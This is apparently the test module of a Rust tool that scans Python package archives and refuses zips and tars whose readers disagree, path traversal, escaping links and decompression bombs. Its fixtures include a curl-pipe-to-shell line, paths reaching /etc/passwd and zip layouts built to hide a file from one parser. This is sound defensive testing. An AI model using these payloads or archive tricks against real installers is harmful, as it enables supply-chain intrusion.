        let pax = b"21 path=pkg/setup.py\n";
        let sparse = b"32 GNU.sparse.name=pkg/setup.py\n";
        let long_then_global = [
            raw_block(gnu(), "././@LongLink", b'L', b"pkg/setup.py\0"),
            raw_block(gnu(), "pax_global_header", b'g', b"15 comment=hi\n"),
        ]
        .concat();
        let pax_then_global = [
            raw_block(gnu(), "pax", b'x', pax),
            raw_block(gnu(), "pax_global_header", b'g', b"15 comment=hi\n"),
        ]
        .concat();
        let mut prefixed = gnu();
        prefixed.as_mut_bytes()[345..348].copy_from_slice(b"pkg");
        let prefixed = raw_block(prefixed, "setup.py", b'0', b"x\n");
        for (case, first) in [
            ("GNU sparse name", raw_block(gnu(), "pax", b'x', sparse)),
            ("long name, then a global header", long_then_global),
            ("pax header, then a global header", pax_then_global),
            ("prefix in a GNU header", prefixed),
            (
                "v7 long name",
                raw_block(
                    tar::Header::new_old(),
                    "././@LongLink",
                    b'L',
                    b"pkg/setup.py\0",
                ),
            ),
            (
                "v7 pax",
                raw_block(tar::Header::new_old(), "pax", b'x', pax),
            ),
            ("Solaris pax", raw_block(gnu(), "pax", b'X', pax)),
        ] {
            let tar = [first, member.clone(), end.clone()].concat();
            match read_archive(&tar, ArchiveFormat::Tar, &Limits::default()) {
                Err(ArchiveError::Ambiguous { why, .. }) => {
                    assert!(why.contains("which Python's tarfile"), "{case}: {why}")
                }
                other => panic!("{case}: expected a refusal, got {other:?}"),
            }
        }
        // An old-style header on its own is read as usual.
        let p = read_archive(
            &[member, end].concat(),
            ArchiveFormat::Tar,
            &Limits::default(),
        );
        assert_eq!(paths(&p.unwrap()), ["pkg/docs/notes.txt"]);
    }

    /// Python's zipfile has no links: pip and zipimport write an entry
    /// marked as one as a file holding its bytes.
    #[test]
    fn a_zip_entry_marked_as_a_link_is_read_as_the_file_python_writes() {
        use std::io::Write;
        let zip_with_link = |target: &str| {
            let mut z = zip::ZipWriter::new(Cursor::new(Vec::new()));
            let o = zip::write::SimpleFileOptions::default();
            z.start_file("pkg/README.md", o).unwrap();
            z.write_all(b"# hi\n").unwrap();
            z.add_symlink("pkg/lib/util.py", target, o).unwrap();
            z.finish().unwrap().into_inner()
        };
        let code = "import os\nos.system('curl x | sh')\n";
        let p = read_archive(&zip_with_link(code), ArchiveFormat::Zip, &Limits::default()).unwrap();
        assert_eq!(member(&p, "pkg/lib/util.py"), code.as_bytes());
        assert!(
            p.notes
                .iter()
                .any(|n| n.contains("pkg/lib/util.py: a zip entry marked as a symbolic link")),
            "{:?}",
            p.notes
        );
        // Bytes that can be a path are a link too, for tools that make one:
        // its rules hold (here, an escape blocks).
        let p = read_archive(
            &zip_with_link("../README.md"),
            ArchiveFormat::Zip,
            &Limits::default(),
        );
        assert_eq!(member(&p.unwrap(), "pkg/lib/util.py"), b"../README.md");
        match read_archive(
            &zip_with_link("../../../etc/passwd"),
            ArchiveFormat::Zip,
            &Limits::default(),
        ) {
            Err(ArchiveError::Escape { member, .. }) => assert_eq!(member, "pkg/lib/util.py"),
            other => panic!("expected an escape, got {other:?}"),
        }
    }

    /// The zip crate takes a name ending in `\` for a directory; Python's
    /// zipfile (and pip's wheel installer) writes it as a file with its
    /// data, which was never read.
    #[test]
    fn a_zip_name_ending_in_a_backslash_is_read_as_the_file_python_writes() {
        let z = zip_of(&[
            ("pkg/README.md", b"# hi\n"),
            ("pkg/run.py\\", b"import os\n"),
            ("pkg/empty\\", b""),
            ("pkg/dir/", b""),
        ]);
        let p = read_archive(&z, ArchiveFormat::Zip, &Limits::default()).unwrap();
        assert_eq!(paths(&p), ["pkg/README.md", "pkg/run.py"]);
        assert_eq!(member(&p, "pkg/run.py"), b"import os\n");
    }

    fn le32_at(b: &[u8], at: usize) -> usize {
        le32(b, at) as usize
    }

    /// A zip's bytes before its central directory, and the directory's
    /// entries.
    fn zip_parts(z: &[u8]) -> (Vec<u8>, Vec<Vec<u8>>) {
        let e = memchr::memmem::rfind(z, b"PK\x05\x06").unwrap();
        let (size, off) = (le32_at(z, e + 12), le32_at(z, e + 16));
        let mut entries = Vec::new();
        let mut at = off;
        while at < off + size {
            let n = (le16(z, at + 28) + le16(z, at + 30) + le16(z, at + 32)) as usize;
            entries.push(z[at..at + 46 + n].to_vec());
            at += 46 + n;
        }
        (z[..off].to_vec(), entries)
    }

    fn end_record(count: usize, size: usize, offset: usize, comment: usize) -> Vec<u8> {
        let mut e = b"PK\x05\x06\0\0\0\0".to_vec();
        e.extend((count as u16).to_le_bytes());
        e.extend((count as u16).to_le_bytes());
        e.extend((size as u32).to_le_bytes());
        e.extend((offset as u32).to_le_bytes());
        e.extend((comment as u16).to_le_bytes());
        e
    }

    /// Moves a directory entry's local header offset by `by`.
    fn moved(entry: &[u8], by: usize) -> Vec<u8> {
        let mut e = entry.to_vec();
        let at = le32_at(&e, 42) + by;
        e[42..46].copy_from_slice(&(at as u32).to_le_bytes());
        e
    }

    /// Layouts where Python's zipfile, the zip crate and a streaming reader
    /// list different files: each hides `pkg/lib/util.py` from the zip
    /// crate. The same layouts built with Python (`mkzips.py`, session 16)
    /// were listed by Python 3.11 with the hidden file, and allowed by the
    /// build before this check.
    #[test]
    fn zips_that_readers_list_differently_are_refused() {
        let carrier: [(&str, &[u8]); 2] =
            [("pkg/README.md", b"# hi\n"), ("pkg/index.py", b"x = 1\n")];
        let hijacked = [carrier[0], carrier[1], ("pkg/lib/util.py", b"import os\n")];
        let (members, all) = zip_parts(&zip_of(&hijacked));
        let n = all.len();
        let dir: Vec<u8> = all.concat();
        let first: Vec<u8> = all[..n - 1].concat();
        let mut cases: Vec<(&str, Vec<u8>, &str)> = Vec::new();
        // The entry count says two; the directory's size holds three.
        cases.push((
            "count",
            [
                members.clone(),
                dir.clone(),
                end_record(n - 1, dir.len(), members.len(), 0),
            ]
            .concat(),
            "lists 3 entries",
        ));
        // The declared offset leads to a directory of two, the declared
        // size (counted back from the end record, as Python does) to one of
        // three; Python shifts offsets by the gap, so the file is padded.
        let pad = first.len();
        let first_moved: Vec<u8> = all[..n - 1].iter().flat_map(|e| moved(e, pad)).collect();
        cases.push((
            "two directories",
            [
                vec![b' '; pad],
                members.clone(),
                first_moved,
                dir.clone(),
                end_record(n - 1, dir.len(), pad + members.len(), 0),
            ]
            .concat(),
            "reads the central directory at byte",
        ));
        // Python's end record (the last in the file) hides in the comment
        // of the zip crate's, which skips it for its comment length.
        let (carrier_members, carrier_dir) = zip_parts(&zip_of(&carrier));
        let carrier_dir = carrier_dir.concat();
        let at = members.len() + carrier_members.len() + carrier_dir.len() + 22;
        let comment = [dir.clone(), end_record(n, dir.len(), at, 0xFFFF)].concat();
        cases.push((
            "two end records",
            [
                members.clone(),
                carrier_members,
                carrier_dir.clone(),
                end_record(
                    2,
                    carrier_dir.len(),
                    at - 22 - carrier_dir.len() - members.len(),
                    comment.len(),
                ),
                comment,
            ]
            .concat(),
            "reads the central directory at byte",
        ));
        // A local entry the directory does not list.
        cases.push((
            "hidden local entry",
            [
                members.clone(),
                first.clone(),
                end_record(n - 1, first.len(), members.len(), 0),
            ]
            .concat(),
            "belongs to no entry of the central directory",
        ));
        // Local headers that disagree with the directory.
        // An Info-ZIP Unicode Path field naming the payload a document:
        // the zip crate takes it, Python 3.11 the header's name. (Written
        // under another id, then patched: the writer checks the field.)
        let mut crc = flate2::Crc::new();
        crc.update(b"pkg/lib/util.py");
        let mut field = vec![1u8];
        field.extend(crc.sum().to_le_bytes());
        field.extend(b"pkg/docs/notes.txt");
        let mut o = zip::write::FullFileOptions::default();
        o.add_extra_data(0x5a5a, field.into_boxed_slice(), true)
            .unwrap();
        let mut z = zip::ZipWriter::new(Cursor::new(Vec::new()));
        z.start_file("pkg/lib/util.py", o).unwrap();
        std::io::Write::write_all(&mut z, b"import os\n").unwrap();
        let mut unicode = z.finish().unwrap().into_inner();
        let id = memchr::memmem::find(&unicode, &[0x5a, 0x5a, 23, 0, 1]).unwrap();
        unicode[id..id + 2].copy_from_slice(&0x7075u16.to_le_bytes());
        cases.push((
            "Unicode Path field",
            unicode,
            "names entry 0 \"pkg/lib/util.py\"",
        ));
        let plain = zip_of(&hijacked);
        let local = memchr::memmem::find(&plain, b"pkg/lib/util.py").unwrap() - 30;
        let mut renamed = plain.clone();
        renamed[local + 30 + 13..local + 30 + 15].copy_from_slice(b"js");
        cases.push((
            "local name",
            renamed,
            "its local header names it \"pkg/lib/util.js\"",
        ));
        let mut method = plain.clone();
        assert_eq!(method[local + 8], 8, "written deflated");
        method[local + 8] = 0;
        cases.push((
            "local method",
            method,
            "compression method 0, the central directory 8",
        ));
        let mut size = plain.clone();
        size[local + 22] ^= 1;
        cases.push(("local size", size, "its local header declares"));
        for (case, bytes, want) in cases {
            match read_archive(&bytes, ArchiveFormat::Zip, &Limits::default()) {
                Err(ArchiveError::Ambiguous { why, .. }) => {
                    assert!(why.contains(want), "{case}: {why}")
                }
                other => panic!("{case}: expected a refusal, got {other:?}"),
            }
        }
        // What real writers do is read: a plain zip, one behind a shebang
        // line (a zipapp), one whose local header leaves its sizes to a
        // data descriptor (flag bit 3, zeros), as streamed writes do.
        let mut zipapp = b"#!/usr/bin/env python3\n".to_vec();
        zipapp.extend(zip_of(&hijacked));
        let mut streamed = plain.clone();
        streamed[local + 6] |= 8;
        streamed[local + 14..local + 26].fill(0);
        for (case, bytes) in [("plain", plain), ("zipapp", zipapp), ("streamed", streamed)] {
            let p = read_archive(&bytes, ArchiveFormat::Zip, &Limits::default());
            assert_eq!(paths(&p.unwrap()).len(), 3, "{case}");
        }
    }

    #[test]
    fn a_bomb_in_the_tar_headers_is_refused_before_it_fills_memory() {
        // The tar reader gathers a GNU long name whole before it hands over
        // the member it names, and skips on its own the data of a file
        // without a name (`./`).
        for (kind, name) in [
            (tar::EntryType::GNULongName, &b"././@LongLink"[..]),
            (tar::EntryType::Regular, &b"./"[..]),
        ] {
            let mut b = tar::Builder::new(Vec::new());
            let mut h = tar::Header::new_gnu();
            h.set_entry_type(kind);
            h.set_size(4 << 20);
            h.as_old_mut().name[..name.len()].copy_from_slice(name);
            h.set_cksum();
            b.append(&h, std::io::repeat(b'a').take(4 << 20)).unwrap();
            let mut h = tar::Header::new_gnu();
            h.set_size(1);
            h.set_path("pkg/setup.py").unwrap();
            h.set_cksum();
            b.append(&h, &b"x"[..]).unwrap();
            let tgz = gz(&b.into_inner().unwrap());
            match read_archive(&tgz, ArchiveFormat::TarGz, &Limits::default()) {
                Err(ArchiveError::Corrupt(why)) => assert!(why.contains("tar headers"), "{why}"),
                other => panic!("{kind:?}: expected the header cap, got {other:?}"),
            }
        }
        // A long name of a real length is read as usual.
        let long = format!("pkg/{}/setup.py", "d".repeat(300));
        let mut b = tar::Builder::new(Vec::new());
        let mut h = tar::Header::new_gnu();
        h.set_size(1);
        b.append_data(&mut h, &long, &b"x"[..]).unwrap();
        let p = read_archive(
            &b.into_inner().unwrap(),
            ArchiveFormat::Tar,
            &Limits::default(),
        );
        assert_eq!(paths(&p.unwrap()), [long.as_str()]);
    }

    #[test]
    fn a_corrupt_inner_archive_blocks_naming_it() {
        let mut broken = zip_of(&[("x.py", b"x = 1\n")]);
        broken.truncate(broken.len() / 2);
        let outer = tar_of(&[("pkg/vendor/lib.zip", &broken)]);
        match read_archive(&outer, ArchiveFormat::Tar, &Limits::default()) {
            Err(ArchiveError::Corrupt(why)) => {
                assert!(
                    why.contains("inside the package at \"pkg/vendor/lib.zip\""),
                    "{why}"
                )
            }
            other => panic!("expected a corrupt inner archive, got {other:?}"),
        }
    }

    #[test]
    fn an_inner_archive_may_hold_traversal_fixtures_but_the_package_may_not() {
        // Django ships archives with `..` members to test its own unpacking;
        // installing the package unpacks none of them.
        let fixture = tar_of(&[("foo/../../evil.py", b"print(1)\n")]);
        let outer = tar_of(&[("pkg/tests/traversal.tar", &fixture)]);
        let p = read_archive(&outer, ArchiveFormat::Tar, &Limits::default()).unwrap();
        assert_eq!(paths(&p), ["pkg/tests/traversal.tar/foo/../../evil.py"]);
        assert!(
            p.notes
                .iter()
                .any(|n| n.contains("escapes that archive's root")),
            "{:?}",
            p.notes
        );
        // distlib ships a fixture that writes through a link, and another
        // archive may name a member twice: noted, and every copy is read.
        let mut b = tar::Builder::new(Vec::new());
        let mut h = tar::Header::new_gnu();
        h.set_entry_type(tar::EntryType::Symlink);
        h.set_size(0);
        h.set_path("tmp").unwrap();
        h.set_link_name("/tmp").unwrap_or(());
        h.set_cksum();
        b.append(&h, &b""[..]).unwrap();
        let links = b.into_inner().unwrap();
        let mut evil = links[..links.len() - 1024].to_vec();
        evil.extend(tar_of(&[("tmp/poc", b"a"), ("x.py", b"1"), ("x.py", b"2")]));
        let outer = tar_of(&[("pkg/tests/evil.tar", &evil)]);
        let p = read_archive(&outer, ArchiveFormat::Tar, &Limits::default()).unwrap();
        assert_eq!(
            paths(&p),
            [
                "pkg/tests/evil.tar/tmp/poc",
                "pkg/tests/evil.tar/x.py",
                "pkg/tests/evil.tar/x.py (copy 2)"
            ]
        );
        assert_eq!(member(&p, "pkg/tests/evil.tar/x.py (copy 2)"), b"2");
        let notes = p.notes.join("\n");
        assert!(
            notes.contains("written through the link pkg/tests/evil.tar/tmp"),
            "{notes}"
        );
        assert!(notes.contains("appears more than once"), "{notes}");
        let top = tar_of(&[("pkg/../../evil.py", b"print(1)\n")]);
        assert!(matches!(
            read_archive(&top, ArchiveFormat::Tar, &Limits::default()),
            Err(ArchiveError::Escape { .. })
        ));
    }

    #[test]
    fn an_inner_binary_is_read_to_its_probe_so_bombs_and_big_data_cost_nothing() {
        // 256 MiB of zeros deflate to about 256 KB: past the ratio and member
        // caps if read, but a binary renders as one line whatever it holds.
        use std::io::Write;
        let mut z = zip::ZipWriter::new(Cursor::new(Vec::new()));
        z.start_file("big.npy", zip::write::SimpleFileOptions::default())
            .unwrap();
        let zeros = vec![0u8; 1 << 20];
        for _ in 0..256 {
            z.write_all(&zeros).unwrap();
        }
        let npz = z.finish().unwrap().into_inner();
        let outer = tar_of(&[("pkg/data/m.npz", &npz)]);
        // Compressed: a plain tar ending in a zip's bytes is one pip unzips.
        let p = read_archive(&gz(&outer), ArchiveFormat::TarGz, &Limits::default()).unwrap();
        let data = member(&p, "pkg/data/m.npz/big.npy");
        assert!(data.len() < 2 * BINARY_PROBE, "{}", data.len());
        assert!(data[..BINARY_PROBE].iter().all(|&b| b == 0));
        let tail = String::from_utf8_lossy(&data[BINARY_PROBE..]).into_owned();
        assert!(
            tail.contains(&format!("{} bytes declared", 256u64 << 20)),
            "{tail}"
        );
        // In an inner tar.gz the rest of a binary must still be inflated to
        // reach the next member: that work is counted, and bounded.
        let mut e = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::fast());
        let mut t = tar::Builder::new(&mut e);
        let mut h = tar::Header::new_gnu();
        h.set_size(64 << 20);
        h.set_path("big.bin").unwrap();
        h.set_cksum();
        t.append(&h, std::io::repeat(0).take(64 << 20)).unwrap();
        t.into_inner().unwrap().flush().unwrap();
        let tgz = e.finish().unwrap();
        let outer = tar_of(&[("pkg/data/d.tar.gz", &tgz)]);
        let capped = Limits {
            max_total_bytes: 8 << 20,
            ..Limits::default()
        };
        assert!(matches!(
            read_archive(&outer, ArchiveFormat::Tar, &capped),
            Err(ArchiveError::Limit {
                key: "max-total-bytes",
                ..
            })
        ));
        let p = read_archive(&outer, ArchiveFormat::Tar, &Limits::default()).unwrap();
        assert_eq!(paths(&p), ["pkg/data/d.tar.gz/big.bin"]);
        // A text in an inner archive is read whole, under the same caps.
        let text = zip_of(&[("big.py", &vec![b'a'; 2 << 20])]);
        let small = Limits {
            max_member_bytes: 1 << 20,
            ..Limits::default()
        };
        let outer = tar_of(&[("pkg/vendor/t.zip", &text)]);
        assert!(matches!(
            read_archive(&gz(&outer), ArchiveFormat::TarGz, &small),
            Err(ArchiveError::Limit {
                key: "max-member-bytes",
                ..
            })
        ));
    }

    #[test]
    fn members_are_taken_for_archives_only_by_strict_magic() {
        // Texts that begin like bzip2, or hold "ustar" where a tar header
        // would, are files: an inner archive that fails to read blocks.
        let mut ustar = vec![b'x'; 600];
        ustar[257..262].copy_from_slice(b"ustar");
        for text in [&b"BZh9 is how a bzip2 stream begins"[..], &ustar] {
            assert_eq!(ArchiveFormat::sniff_member(text), None);
        }
        let tar = tar_of(&[("a.py", b"x")]);
        assert_eq!(ArchiveFormat::sniff_member(&tar), Some(ArchiveFormat::Tar));
        let mut bad = tar.clone();
        bad[0] ^= 1; // the checksum no longer holds
        assert_eq!(ArchiveFormat::sniff_member(&bad), None);
        let mut bz = Vec::new();
        bzip2::read::BzEncoder::new(&b"hello"[..], bzip2::Compression::fast())
            .read_to_end(&mut bz)
            .unwrap();
        assert_eq!(
            ArchiveFormat::sniff_member(&bz),
            Some(ArchiveFormat::TarBz2)
        );
        assert_eq!(
            ArchiveFormat::sniff_member(&gz(b"x")),
            Some(ArchiveFormat::TarGz)
        );
    }

    #[test]
    fn eggs_are_zips_and_unreadable_formats_are_named() {
        assert_eq!(
            ArchiveFormat::from_path(Path::new("x-1.0-py3.8.egg")),
            Some(ArchiveFormat::Zip)
        );
        assert_eq!(
            unreadable_package_format(Path::new("x-1.0.tar.xz")),
            Some("an xz-compressed tar")
        );
        assert_eq!(unreadable_package_format(Path::new("x-1.0.tar.gz")), None);
        assert_eq!(unreadable_package_format(Path::new("index.html")), None);
    }

    #[cfg(unix)]
    #[test]
    fn a_folder_link_that_leaves_the_folder_blocks_and_one_inside_is_noted() {
        let dir = tempfile::tempdir().unwrap();
        let pkg = dir.path().join("pkg");
        std::fs::create_dir_all(pkg.join("lib")).unwrap();
        std::fs::write(pkg.join("lib/real.py"), b"x = 1\n").unwrap();
        std::fs::write(dir.path().join("outside.py"), b"import os\n").unwrap();
        std::os::unix::fs::symlink("real.py", pkg.join("lib/alias.py")).unwrap();
        let p = read_dir(&pkg, &Limits::default()).unwrap();
        assert_eq!(paths(&p), ["lib/real.py"]);
        assert_eq!(
            p.links,
            [("lib/alias.py".to_string(), "lib/real.py".to_string())]
        );
        assert!(
            p.notes.iter().any(|n| n.contains("lib/alias.py")),
            "{:?}",
            p.notes
        );
        std::os::unix::fs::symlink("../outside.py", pkg.join("setup.py")).unwrap();
        match read_dir(&pkg, &Limits::default()) {
            Err(e @ ArchiveError::LinkOutside { .. }) => {
                let e = e.to_string();
                assert!(
                    e.contains("\"setup.py\"") && e.contains("../outside.py"),
                    "{e}"
                );
            }
            other => panic!("expected the link to block, got {other:?}"),
        }
    }

    /// Damaged archives end in a package or an error, never a panic: every
    /// fixture and a package holding inner archives of each kind, with
    /// bytes flipped, cut short or zeroed at seeded random places, read as
    /// every format.
    #[test]
    fn damaged_archives_never_panic() {
        let fixtures = Path::new(env!("CARGO_MANIFEST_DIR")).join("tests/fixtures/packages");
        let mut inputs: Vec<Vec<u8>> = Vec::new();
        for kind in ["benign", "malicious"] {
            for e in std::fs::read_dir(fixtures.join(kind)).unwrap().flatten() {
                inputs.push(std::fs::read(e.path()).unwrap());
            }
        }
        let inner_zip = zip_of(&[("a/b.py", b"import os\n"), ("c.txt", b"x")]);
        let inner_tgz = gz(&tar_of(&[("lib/a.py", b"A = 1\n")]));
        let mut polyglot = vec![0u8; 64];
        polyglot.extend(&inner_zip);
        inputs.push(gz(&tar_of(&[
            ("pkg/setup.py", b"setup()\n"),
            ("pkg/v.zip", &inner_zip),
            ("pkg/v.tar.gz", &inner_tgz),
            ("pkg/d.csv.gz", &gz(b"a,b\n")),
            ("pkg/logo.png", &polyglot),
        ])));
        let mut seed: u64 = 0x9e37_79b9_7f4a_7c15;
        let mut next = move |n: usize| {
            seed ^= seed << 13;
            seed ^= seed >> 7;
            seed ^= seed << 17;
            (seed % n.max(1) as u64) as usize
        };
        let limits = Limits {
            max_total_bytes: 8 << 20,
            ..Limits::default()
        };
        let formats = [
            ArchiveFormat::TarGz,
            ArchiveFormat::TarBz2,
            ArchiveFormat::Tar,
            ArchiveFormat::Zip,
        ];
        let mut read = 0;
        for input in &inputs {
            for round in 0..60 {
                let mut b = input.clone();
                match round % 3 {
                    0 => {
                        for _ in 0..1 + next(8) {
                            let i = next(b.len());
                            b[i] ^= 1 << next(8);
                        }
                    }
                    1 => b.truncate(next(b.len())),
                    _ => {
                        let i = next(b.len());
                        let end = (i + 1 + next(64)).min(b.len());
                        b[i..end].fill(0);
                    }
                }
                for f in formats {
                    if read_archive(&b, f, &limits).is_ok() {
                        read += 1;
                    }
                }
                let _ = ArchiveFormat::sniff_member(&b);
                let _ = appended_zip(&b);
            }
        }
        // Some damage (a flipped byte in a stored member's text) leaves an
        // archive readable: the test did read archives, not only refuse them.
        assert!(read > 0);
    }

    /// A reader of `len` bytes that counts how many were asked of it.
    struct Counted {
        left: u64,
        read: u64,
    }

    impl Read for Counted {
        fn read(&mut self, buf: &mut [u8]) -> std::io::Result<usize> {
            let n = (buf.len() as u64).min(self.left) as usize;
            buf[..n].fill(b'a');
            self.left -= n as u64;
            self.read += n as u64;
            Ok(n)
        }
    }

    #[test]
    fn declared_sizes_are_hints_and_caps_bound_what_is_read() {
        let limits = Limits {
            max_member_bytes: 1 << 20,
            ..Limits::default()
        };
        // An archive that claims far more than it holds: the data comes back
        // whole and the oversized buffer is given back.
        let mut b = Budget::new(&limits, 1 << 20);
        let mut r = Counted { left: 10, read: 0 };
        let data = b.read_member("small", &mut r, u64::MAX).unwrap();
        assert_eq!(data, b"aaaaaaaaaa");
        assert!(data.capacity() <= 64 * 1024, "{}", data.capacity());
        // A member past the cap: refused naming the cap, and not read further
        // than one byte past it, whatever it declares.
        for declared in [0, 10, u64::MAX] {
            let mut b = Budget::new(&limits, 1 << 30);
            let mut r = Counted {
                left: 8 << 20,
                read: 0,
            };
            match b.read_member("big", &mut r, declared) {
                Err(ArchiveError::Limit { key, .. }) => assert_eq!(key, "max-member-bytes"),
                other => panic!("expected the member cap, got {other:?}"),
            }
            assert!(r.read <= (1 << 20) + 64 * 1024, "read {} bytes", r.read);
        }
        // The whole-archive cap counts across members.
        let limits = Limits {
            max_total_bytes: 100,
            ..limits
        };
        let mut b = Budget::new(&limits, 1 << 20);
        b.read_member("one", &mut Counted { left: 60, read: 0 }, 60)
            .unwrap();
        match b.read_member("two", &mut Counted { left: 60, read: 0 }, 60) {
            Err(ArchiveError::Limit { key, what, .. }) => {
                assert_eq!(key, "max-total-bytes");
                assert!(what.contains("\"two\""), "{what}");
            }
            other => panic!("expected the total cap, got {other:?}"),
        }
    }
}
